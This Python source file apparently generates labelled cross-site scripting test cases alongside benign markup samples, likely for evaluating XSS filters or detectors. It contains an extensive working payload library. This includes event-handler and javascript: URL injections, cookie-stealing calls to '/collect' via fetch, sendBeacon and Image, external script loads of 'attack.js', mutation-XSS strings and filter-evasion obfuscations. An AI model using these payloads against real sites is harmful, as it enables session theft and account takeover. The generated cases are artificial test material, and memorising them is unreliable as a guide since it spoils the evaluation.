"""Cross-site scripting: context x technique x obfuscation. A page of an application has the value in it, without escaping."""

import re

from ground.case import Case

CALLS = ["alert(1)", "alert`1`", "confirm(1)", "prompt(1)", "print()", "alert(document.domain)", "alert(document.cookie)", "window.alert(1)", "self['alert'](1)", "window['al'+'ert'](1)", "this['alert'](1)", "eval('alert(1)')", "Function('alert(1)')()", "setTimeout('alert(1)')",
         "setTimeout(alert,0)", "[1].map(alert)", "[1].find(alert)", "alert.call(null,1)", "alert.apply(this,[1])", "Reflect.apply(alert,null,[1])", "(alert)(1)", "(0,alert)(1)", "a=alert,a(1)", "eval(atob('YWxlcnQoMSk='))", "new Function`alert\\x281\\x29```", "frames['alert'](1)", "globalThis.alert(1)", "globalThis['con'+'firm'](1)",
         "[]['constructor']['constructor']('alert(1)')()", "void alert(1)", "!alert(1)", "import('data:text/javascript,alert(1)')", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "Object.values({a:alert})[0](1)", "setTimeout`alert\\x281\\x29`", "alert?.(1)", "self[/al/.source+/ert/.source](1)", "throw onerror=alert,1", "with(document)alert(cookie)",
         "fetch('/collect?'+document.cookie)", "new Image().src='/collect?'+document.cookie", "location='/collect?'+document.cookie", "navigator.sendBeacon('/collect',document.cookie)", "\\u0061lert(1)", "al\\u0065rt(1)", "window[atob('YWxlcnQ=')](1)", "eval(name||'alert(1)')", "document.write('<script>alert(1)</scr'+'ipt>')", "document.body.innerHTML='<img src=x onerror=alert(1)>'", "(()=>alert(1))()",
         "(function(){alert(1)})()", "Promise.resolve(1).then(alert)", "queueMicrotask(alert)", "requestAnimationFrame(alert)", "$=alert,$(1)", "parseInt('x'),alert(1)", "document.defaultView.alert(1)", "document['defaultView']['alert'](1)", "alert(1)//"]
AUTO = ["img src=x onerror", "svg onload", "img src onerror", "image src=x onerror", "video src=x onerror", "audio src=x onerror", "input autofocus onfocus", "details open ontoggle", "body onload", "svg><animate onbegin", "svg><set onbegin", "select autofocus onfocus", "textarea autofocus onfocus", "video><source onerror", "iframe onload", "object data=x onerror",
        "style onload", "link rel=stylesheet href=/x.css onerror", "script src=/x onerror", "embed src=/x onload", "marquee onstart", "body onpageshow", "audio autoplay src=x onerror", "button autofocus onfocus", "a href=# autofocus onfocus", "div tabindex=0 autofocus onfocus", "img srcset=x onerror", "svg><image href=x onerror", "picture><img src=x onerror", "table background=x><img src=x onerror", "keygen autofocus onfocus", "x contenteditable autofocus onfocus", "frameset onload", "svg><animate attributeName=x dur=1s onbegin", "svg><svg onload"]
ACTED = ["a onclick", "b onclick", "div onmouseover", "p onmouseenter", "x onclick", "a onpointerdown", "button onclick", "div onpointerover", "input oninput", "form onsubmit", "div onwheel", "a oncontextmenu", "custom-tag onmousemove", "h1 onfocusin tabindex=1", "label onmouseup", "td onmouseout", "div ondblclick", "i ontouchstart", "x onauxclick", "div onkeydown", "p oncopy", "s onpaste", "details ontoggle", "div ondragstart"]


def quoted(r, handler):
    options = [q for q in ('"', "'", "") if q not in handler and (q or not re.search(r"[\s>`=\"']", handler))]
    return r.choice(options or ['"']) if options else None


def element(r, call):
    opening = r.choice(AUTO if r.random() < 0.65 else ACTED)
    q = quoted(r, call)
    if q is None:
        return None, None
    technique = "automatic handler" if opening in AUTO else "handler"
    body = r.choice(["", "x", ">x", "/>", ">click me"])
    return technique, f"<{opening}={q}{call}{q}{body if body.startswith('>') or body == '/>' else '>' + body}"


def link(r, call):
    scheme = r.choice(["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript://%0a", "javascript:/**/", "jav&#x61;script:", "javascript&colon;", "java&Tab;script:", "javascript:void ", "&#106;avascript:", "javascript:'',"])
    call = call.replace("%", "%25")
    q = quoted(r, call)
    if q is None or " " in call and not q:
        return None, None
    form = r.choice(["<a href={}>x</a>", "<iframe src={}></iframe>", "<form action={}><input type=submit></form>", "<form><button formaction={}>x</button></form>", "<svg><a xlink:href={}><text y=9>x</text></a></svg>", "<object data={}></object>", "<embed src={}>", "<math><a href={}>x</a></math>", "<map><area href={} shape=default></map>", "<svg><a href={}><text y=9>x</text></a></svg>"])
    q = q or '"'
    return "script URL", form.replace("{}", f"{q}{scheme}{call}{q}")


def script(r, call):
    return r.choice([("script element", f"<script>{call}</script>"), ("script element", f"<script >{call}</script >"), ("script element", f"<script type=module>{call}</script>"), ("script element", f"<svg><script>{call}</script></svg>"), ("script element", f"<script/x>{call}</script>"), ("script element", f"<script src=data:,{call}></script>" if not re.search(r"[\s>`'\"#]", call) else f"<script>{call}</script>"), ("script element", f"<script>\n{call}\n</script>"),
                     ("srcdoc", f"<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\"></iframe>"), ("srcdoc", "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>"), ("script element", f"<script>{call}<!--"), ("template", f"<svg><style><img src=x onerror=alert(1)></style></svg>"), ("meta", "<meta http-equiv=refresh content='0;url=/collect?x'>"), ("script element", "<script src=//127.0.0.1:8200/attack.js></script>"), ("script element", "<base href=//127.0.0.1:8200/><script src=attack.js></script>"), ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"), ("mutation", "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>")])


# Context -> (what closes it, whether markup follows).
BREAKS = {
    "body": [""], "double-quoted attribute": ['">', '"/>', '" >'], "single-quoted attribute": ["'>", "'/>"], "unquoted attribute": ["x>", ">"], "title": ["</title>", "</title/x>"], "textarea": ["</textarea>"], "comment": ["-->", "--!>"], "script string": ["</script>", "</SCRIPT >"], "style": ["</style>"],
}
ATTRIBUTES = {"double-quoted attribute": '"', "single-quoted attribute": "'", "unquoted attribute": " "}


def in_attribute(r, context, call):
    q = ATTRIBUTES[context]
    handler = r.choice(["autofocus onfocus", "onmouseover", "onclick", "onfocus autofocus tabindex=1", "style=animation-name:x onanimationstart", "onpointerenter", "accesskey=x onclick", "oninput", "autofocus onfocusin"])
    if " autofocus" in handler and handler.startswith("onfocus"):
        handler = "autofocus tabindex=1 onfocus"
    other = "'" if q == '"' else '"'
    if q != " " and q not in call:
        return "attribute", f"{r.choice(['x', '', '1'])}{q}{r.choice([' ', '/', chr(9), ''])}{handler}={q}{call}"
    if other not in call:
        return "attribute", f"x{q if q != ' ' else ''} {handler}={other}{call}{other} {'x=' + q if q != ' ' else ''}"
    return None, None


def in_script(r, context, call):
    q = {"script string": "'", "script string, double": '"', "script template": "`", "handler string": "'"}[context]
    if context == "script template" and r.random() < 0.6:
        return "expression", "${" + call + "}"
    return "expression", r.choice([f"{q};{call}//", f"{q}-{call}-{q}", f"{q}+{call}+{q}", f"{q};{call};{q}", f"{q}*{call}*{q}", f"{q}||{call}||{q}", f"{q}\n{call}\n{q}", f"{q},{call},{q}", f"{q}?{call}:{q}", f"{q}^{call}^{q}", f"{q}in {call} in{q}", f"x{q};{call};//", f"{q}/{call}/{q}", f"{q}=={call}=={q}", f"{q};x={call};y={q}", f"{q}<{call}<{q}", f"{q}&&{call}||{q}"])


def url(r, call):
    scheme = r.choice(["javascript:", "JavaScript:", "java\tscript:", " javascript:", "javascript:\n", "javascript://x%0a", "\tjavascript:", "javascript:x=1;"])
    return "script URL", scheme + call.replace("%", "%25")


def obfuscate(r, name, text):
    match name:
        case "case":
            return re.sub(r"<(\w+)|\b(on\w+)(?==)", lambda m: "".join(r.choice((c.upper(), c.lower())) for c in m[0]), text)
        case "separators":
            return re.sub(r"(<\w+) ", lambda m: m[1] + r.choice(["/", "\t", "\n", "\x0c", "\r", " / ", "//", "/x/"]), text)
        case "references":
            return re.sub(r"(?<==[\"'])([^\"'<>]*)", lambda m: "".join(f"&#{ord(c)};" if r.random() < 0.4 else f"&#x{ord(c):x};" if r.random() < 0.3 else c for c in m[1]) if "alert" in m[1] or "confirm" in m[1] else m[1], text)
        case "equals":
            return re.sub(r"(\bon\w+)=", lambda m: m[1] + r.choice([" =", "= ", "\t=\t", "\n=", " \n= "]), text)
        case "escapes":
            return re.sub(r"\b(alert|confirm|prompt)\b", lambda m: f"\\u{ord(m[1][0]):04x}{m[1][1:]}", text)
        case "junk":
            return r.choice(["x", "<b>", "1<2 ", "<x>", "<!---->", "hello "]) + text
    return text


OBFUSCATIONS = ["none", "none", "none", "case", "separators", "references", "equals", "escapes", "junk"]


def attacks(r, target, count):
    contexts = [*BREAKS, *BREAKS, "script string", "script string, double", "script template", "handler string", "href", "href"]
    for _ in range(count):
        context = r.choice(contexts)
        call = r.choice(CALLS)
        if context == "href":
            technique, text = url(r, call)
        elif context in ("script string, double", "script template", "handler string") or context == "script string" and r.random() < 0.7:
            technique, text = in_script(r, context, call)
        elif context in ATTRIBUTES and r.random() < 0.5:
            technique, text = in_attribute(r, context, call)
        else:
            technique, text = r.choice([element, element, element, link, script])(r, call)
            text = text and r.choice(BREAKS[context]) + text
        if not text:
            continue
        name = r.choice(OBFUSCATIONS)
        text = obfuscate(r, name, text)
        yield Case("xss", target, context, technique, name, text)


TEXTS = ["a < b", "x > y and y < z", "I <3 you", "1 << 2", "<b>bold</b>", "<i>word</i> and <u>more</u>", "<p>Hello</p>", "Tom & Jerry", "&lt;b&gt;", "onclick is an attribute", "javascript is a language", "JavaScript: The Good Parts", "an alert shows a dialog", "call alert() twice", "\"quoted\"", "it's", "'; DROP", "5\" disk", "<br>", "<a href='https://example.test/'>link</a>", "<img src='/a.png' alt='x'>", "<ul><li>one</li></ul>", "->", "<-", "<--", "-->", "<!-- note -->",
         "onload = start", "data: 5", "src=x", "style: modern", "function(x){return x}", "if (a<b) c()", "<name@example.test>", "<name>", "List<String>", "Map<String, List<Integer>>", "vector<int> v;", "#include <stdio.h>", "a<b>c", "<3 <3 <3", "`code`", "${x}", "[x](y)", "<https://example.test>", "x='y'", "1' x 2\"", "title=\"x\"", "<h1>Title</h1><p>Text</p>", "<table><tr><td>1</td></tr></table>", "<code>x</code>", "<blockquote>q</blockquote>"]


def benign(r, target, count):
    for _ in range(count):
        text = r.choice(TEXTS) if r.random() < 0.4 else f"{r.choice(TEXTS)}{r.choice([' ', ', ', '; ', ' - '])}{r.choice(TEXTS)}"
        yield Case("xss", target, "body", "text with markup", "none", text, benign=True)
